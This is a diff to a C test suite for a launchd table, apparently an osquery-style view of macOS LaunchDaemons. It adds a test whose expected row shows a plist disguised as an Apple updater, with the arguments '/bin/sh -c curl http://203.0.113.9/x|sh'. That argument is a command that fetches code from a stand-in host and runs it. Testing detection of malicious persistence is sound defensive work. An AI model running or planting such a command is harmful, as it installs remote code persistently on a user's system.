@@ -274,6 +274,17 @@ START_TEST(the_bomb_and_the_nest_are_error_rows)
 }
 END_TEST
 
+START_TEST(the_view_for_osquery_has_its_columns)
+{
+    harness_expect(db,
+                   "/Library/LaunchDaemons/com.apple.updated.plist|1|"
+                   "/bin/sh -c curl http://203.0.113.9/x|sh|",
+                   "SELECT path, run_at_load, program_arguments, username FROM launchd "
+                   "WHERE label = 'com.apple.update'");
+    harness_expect(db, "10", "SELECT count(*) FROM launchd");
+}
+END_TEST
+
 /* Real files ---------------------------------------------------------------------- */
 
 START_TEST(real_jobs_have_labels_and_programs)
@@ -314,6 +325,7 @@ Suite *make_launchd_suite(void)
     tcase_add_test(tables, a_single_file_a_folder_and_a_pattern_can_be_named);
     tcase_add_test(tables, a_query_on_type_or_path_reads_no_other_file);
     tcase_add_test(tables, the_bomb_and_the_nest_are_error_rows);
+    tcase_add_test(tables, the_view_for_osquery_has_its_columns);
     tcase_add_test(tables, real_jobs_have_labels_and_programs);
     suite_add_tcase(suite, tables);
     return suite;
